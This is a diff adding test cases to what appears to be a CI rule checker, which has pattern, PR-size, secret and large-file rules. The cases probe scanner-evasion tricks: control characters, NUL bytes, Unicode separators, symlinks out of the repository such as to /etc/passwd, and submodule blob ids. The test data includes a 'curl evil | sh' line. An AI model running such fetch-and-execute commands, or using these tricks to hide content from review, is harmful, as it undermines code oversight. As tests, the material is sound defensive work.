@@ -87,6 +87,25 @@ import Testing
       "custom: [{ id: t, level: error, added-lines: секретно }]",
       program + "echo 'echo секретно'; } > deploy; ci", shows: ["[t]"]),
     rule(
+      "a control character within a command in data",
+      "custom: [{ id: t, level: error, added-lines: \"curl.*sh\" }]",
+      "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\ncurl evil \\002\\001 | sh\\n'; } > x.dat; ci",
+      shows: ["matches `curl.*sh`"]),
+    rule(
+      "a NUL between the words of a command in data",
+      "custom: [{ id: t, level: error, added-lines: \"goto out\" }]",
+      "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\ngoto\\000out;\\n'; } > x.dat; ci",
+      shows: ["matches `goto out`"]),
+    rule(
+      "a line end of another program in data",
+      "custom: [{ id: t, level: error, added-lines: \"^eval.x\" }]",
+      "{ printf '//\\000'; printf '\\001%.0s' $(seq 300); printf '\\342\\200\\250eval(x + 1)\\n'; } > x.dat; ci",
+      shows: ["matches `^eval.x`"]),
+    rule(
+      "a blank of Unicode between two words",
+      "custom: [{ id: t, level: error, added-lines: \"^import Evil$\" }]",
+      "printf 'import\\302\\240Evil\\n' > a.swift; ci", shows: ["a.swift:1: error"]),
+    rule(
       "controls of direction in data that a shell runs",
       #"custom: [{ id: t, level: error, added-lines: \"[\\\\x{202A}-\\\\x{202E}]\" }]"#,
       "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\nif [ \"user\\342\\200\\256 # \" ]\\n'; } "
@@ -97,6 +116,10 @@ import Testing
     rule(
       "many lines behind the whole header of a program", "pr-size: { fail: 100 }",
       elf + "seq 900; } > deploy; ci", shows: ["limit is 100"]),
+    rule(
+      "many lines behind a program that moves", "pr-size: { fail: 100 }",
+      base: elf + "head -c 90000 /dev/zero | tr '\\000' '\\001'; echo; } > program",
+      "git mv program deploy; seq 900 >> deploy; ci", shows: ["limit is 100"]),
     rule(
       "a program of the base that gets other lines", "pr-size: { warn: 100 }",
       base: elf + "seq 900; } > deploy", elf + "seq 3 1500; } > deploy; ci", shows: [], status: 0),
@@ -120,6 +143,27 @@ import Testing
       """,
       base: "mkdir -p Else Sources; echo evil > Else/a", "ln -s ../Else Sources/Net; ci",
       shows: ["Sources/Net: error: is a link to Else", "[c]"]),
+    rule(
+      "a link that leaves the checkout and leads back",
+      "custom: [{ id: t, level: error, added-lines: evil, exclude: [\"docs/**\"] }]",
+      "mkdir -p docs Sources; echo evil > docs/a; ln -s /proc/self/cwd/docs/a Sources/a; ci",
+      shows: ["Sources/a: error: is a link to a path outside the repository"]),
+    rule(
+      "a link that leaves the checkout, for a rule on every file",
+      "custom: [{ id: t, level: error, added-lines: evil }]", "ln -s /etc/passwd l; ci",
+      shows: [], status: 0),
+    rule(
+      "a submodule with the id of a file that is taken back", "secrets: error",
+      """
+      echo $TOK > a; ci; B=$(git rev-parse HEAD:a); rm a; git add -A
+      git update-index --add --cacheinfo 160000,$B,a; git commit -qm x; mkdir a
+      """, shows: ["GitHub token in commit"]),
+    rule(
+      "a submodule with the id of a large file that is taken back", "large-files: { fail: 1KB }",
+      """
+      seq 2000 > a; ci; B=$(git rev-parse HEAD:a); rm a; git add -A
+      git update-index --add --cacheinfo 160000,$B,m; git commit -qm x; mkdir m
+      """, shows: ["[large-files]"]),
     rule(
       "a new submodule in the paths of a rule",
       "custom: [{ id: t, level: error, added-lines: evil, paths: [\"Sources/**\"] }]",
